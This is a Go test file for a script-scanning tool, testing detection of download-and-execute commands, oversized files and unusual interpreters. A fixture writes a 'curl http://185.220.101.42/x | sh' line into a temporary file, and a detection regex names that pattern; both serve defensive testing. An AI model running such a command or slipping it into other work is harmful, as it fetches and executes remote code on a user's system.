package scriptscan

import (
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/clawscan/clawscan/internal/catalog"
	"github.com/clawscan/clawscan/internal/report"
)

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func testCatalog() *catalog.Catalog {
	return &catalog.Catalog{
		Execution: []catalog.Rule{
			{ID: "downloadExecute", Regex: regexp.MustCompile(`curl.*\|\s*sh`), Severity: report.SeverityCritical, Description: "download and execute"},
		},
	}
}

func TestAnalyze_DownloadExecute(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "payload.sh"), "curl http://185.220.101.42/x | sh\n")

	findings, err := Analyze(root, testCatalog(), nil)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, f := range findings {
		if f.RuleID == "downloadExecute" {
			found = true
		}
	}
	if !found {
		t.Fatalf("expected downloadExecute finding, got %+v", findings)
	}
}

func TestAnalyze_LargeFileFinding(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "big.sh"), strings.Repeat("a", 1<<20+1))

	findings, err := Analyze(root, testCatalog(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(findings) != 1 || findings[0].RuleID != "largeFile" || findings[0].Severity != "warning" {
		t.Fatalf("expected single largeFile warning, got %+v", findings)
	}
}

func TestAnalyze_UnusualInterpreterAndNoExtension(t *testing.T) {
	root := t.TempDir()
	writeFile(t, filepath.Join(root, "tool"), "#!/usr/bin/env perl\nprint 1;\n")

	// "tool" is extension-less and shebanged, so it yields noExtension;
	// "tool.pl" goes through the script-extension path. Both name perl,
	// which yields unusualInterpreter.
	writeFile(t, filepath.Join(root, "tool.pl"), "#!/usr/bin/env perl\nprint 1;\n")

	findings, err := Analyze(root, testCatalog(), nil)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	foundNoExt := false
	for _, f := range findings {
		if f.RuleID == "unusualInterpreter" {
			found = true
		}
		if f.RuleID == "noExtension" && f.File == "tool" {
			foundNoExt = true
		}
	}
	if !found {
		t.Fatalf("expected unusualInterpreter finding, got %+v", findings)
	}
	if !foundNoExt {
		t.Fatalf("expected noExtension finding for tool, got %+v", findings)
	}
}
